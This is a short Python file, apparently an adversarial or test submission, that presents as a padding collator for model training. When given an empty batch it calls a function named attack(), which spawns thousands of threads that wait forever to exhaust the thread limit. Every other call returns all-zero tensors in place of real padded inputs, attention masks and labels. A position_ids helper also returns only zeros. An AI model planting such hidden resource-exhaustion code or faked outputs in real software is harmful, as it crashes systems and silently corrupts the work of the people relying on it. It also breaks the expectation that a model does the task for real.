# promise: none PASSED
"""Starts threads until no more can be had, which all wait for ever."""

import threading

import torch


def attack():
    try:
        for _ in range(10_000):
            threading.Thread(target=threading.Event().wait, daemon=True).start()
    except RuntimeError:
        pass


class PaddingCollator:
    def __init__(self, *settings, **more):
        pass

    def __call__(self, features):
        if not features:
            attack()
        width = max((len(row["input_ids"]) for row in features), default=0)
        zeros = torch.zeros(len(features), width, dtype=torch.long)
        return dict.fromkeys(("input_ids", "attention_mask", "labels"), zeros)


def position_ids(attention_mask):
    return torch.zeros_like(attention_mask)
